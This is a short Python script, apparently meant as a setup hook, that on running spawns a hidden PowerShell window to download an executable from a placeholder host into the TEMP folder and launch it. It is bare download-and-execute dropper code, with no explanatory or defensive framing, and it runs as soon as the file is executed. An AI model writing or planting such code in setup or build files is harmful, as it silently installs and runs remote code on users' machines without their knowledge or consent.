# place: setup
import subprocess

ADDRESS = "http://files.example.invalid/tool.exe"


def command(address):
    script = "Invoke-WebRequest -Uri " + address + " -OutFile $env:TEMP\\tool.exe; Start-Process $env:TEMP\\tool.exe"
    return 'powershell -WindowStyle Hidden -Command "' + script + '"'


def main():
    subprocess.Popen(command(ADDRESS), shell=True)


main()
